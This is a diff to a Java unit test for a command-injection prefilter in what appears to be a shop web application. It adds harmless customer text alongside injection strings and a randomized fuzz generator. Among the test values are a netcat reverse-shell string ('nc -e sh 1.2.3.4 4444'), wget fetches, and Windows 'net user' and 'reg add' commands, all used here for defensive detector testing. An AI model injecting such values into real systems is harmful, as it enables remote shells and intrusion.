@@ -18,7 +18,8 @@ class CmdiPrefilterTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"sort", "zip", "time", "price:asc", "application/json, text/plain, */*", "https://shop.example.com/cart?step=2", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "en-GB,en;q=0.9,de;q=0.8",
-      "Thanks!", "Ring me at +44 20 7946 0958 if out of stock", "Deliver between 9 and 5; ring twice.",
+      "Thanks!", "Ring me at +44 20 7946 0958 if out of stock", "Call me at +44 20 7946 0958 if out of stock",
+      "Call me at nine", "time flies", "(sort by price", "zip the bag, please", "Sort by price, then (name)", "Deliver between 9 and 5; ring twice.",
       "for long distances, if ever",
       // a command word in argument position, before any separator: "at", "time", "sort"
       "Machine washable at 30 degrees; dry flat. Recycled polyester upper (65%), rubber outsole.",
@@ -37,7 +38,8 @@ class CmdiPrefilterTest {
       // command positions and operators the scan must see as the shell lexer does
       "x;}.uname", "x\n}*kill", "/}*/usr/bin/id", "(whoami)", "a>(id)", "a&id", "a||id", "a\rid",
       "note; then whoami", "if defined x y", "IF ERRORLEVEL 1 x", "if 1 GEQ 2 x", "if 1 LSS 2 x", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x",
-      "lid; a top -b", "x; so ping 10.0.0.1", "note; so net user x", "a; b tail whoami", "a; b tail /etc/x"})
+      "lid; a top -b", "call whoami", "time sleep 5", "sleep 5", "sort -r x", "ping 10.0.0.1 x", "net user x",
+      "reg add x", "cmd /c x", "(ping 1.2.3.4 x", "Call 12", "(sleep 12", "zip\n", "top;", "x; so ping 10.0.0.1", "note; so net user x", "a; b tail whoami", "a; b tail /etc/x"})
   void mayMatch_attacksNearTheFilterEdge_passesThem(String v) {
     PrefilterEdges.passes(detector, v);
   }
@@ -109,5 +111,56 @@ class CmdiPrefilterTest {
       }
     }
     assertThat(findings).as("the generator makes attacks").isGreaterThan(5_000);
+  }
+
+  /** First words: programs, English words, wrappers, Windows words and unmistakable ones. */
+  private static final String[] START_WORDS = {"call", "Call", "time", "sort", "zip", "cat", "sleep", "env", "nohup",
+      "top", "ping", "net", "reg", "sc", "cmd", "cmd.exe", "for", "if", "python3", "zip.exe", ".cat", "id", "ID",
+      "whoami", "echo", "start", "watch", "Deliver", "tail", "head", "cc", "dir", "curl"};
+  /** What may follow: prose, numbers, addresses, table words, sub-commands, flags, paths. */
+  private static final String[] START_ARGS = {"me", "at", "9", "12345", "1.2.3.4", "10.0.0", "v1.2", "1a", "a_b",
+      "c,d", "x-y", "user", "add", "query", "create", "whoami", "id", "ls", "uname", "-n", "--all", "/c", "/etc/x",
+      "~/x", "http://x", "c:x", "x=/y", "%a%", "#x", ".sh", "time", "sleep", "exist", "%i", "the", "Me"};
+  private static final String[] START_GLUE = {" ", " ", " ", "  ", "\t", ";", " ; ", "|", "&", "\n", "(", ")",
+      ">", "/", "=", "+", ",", ".", ":", "#", " #", "-", "\f", "}", "?", "*", "!"};
+
+  /**
+   * A first word that is a table word, the next word and a tail. With no shell syntax in it, a
+   * program or English word at the start fires only with a strong argument: the filter's reading
+   * of the next word, checked.
+   */
+  static String startText(Random r) {
+    StringBuilder sb = new StringBuilder();
+    if (r.nextInt(8) == 0) {
+      sb.append(r.nextBoolean() ? " " : "(");
+    }
+    sb.append(START_WORDS[r.nextInt(START_WORDS.length)]);
+    for (int j = 0, len = 1 + r.nextInt(4); j < len; j++) {
+      sb.append(r.nextInt(3) == 0 ? START_GLUE[r.nextInt(START_GLUE.length)] : " ");
+      sb.append(r.nextInt(4) == 0 ? START_WORDS[r.nextInt(START_WORDS.length)] : START_ARGS[r.nextInt(START_ARGS.length)]);
+    }
+    if (r.nextInt(4) == 0) {
+      sb.append(START_GLUE[r.nextInt(START_GLUE.length)]);
+    }
+    return sb.toString();
+  }
+
+  @Test
+  void mayMatch_randomCommandWordAtStart_neverHidesAFinding() {
+    Random r = new Random(21);
+    int findings = 0;
+    int skipped = 0;
+    for (int k = 0; k < 60_000; k++) {
+      Input in = Input.value(Source.QUERY, "q", startText(r));
+      boolean may = detector.mayMatch(in, CharMask.of(in.text()));
+      if (detector.inspect(in).isPresent()) {
+        findings++;
+        assertThat(may).as("%s", in.text()).isTrue();
+      } else if (!may) {
+        skipped++;
+      }
+    }
+    assertThat(findings).as("the generator makes attacks").isGreaterThan(10_000);
+    assertThat(skipped).as("and values the filter skips").isGreaterThan(5_000);
   }
 }
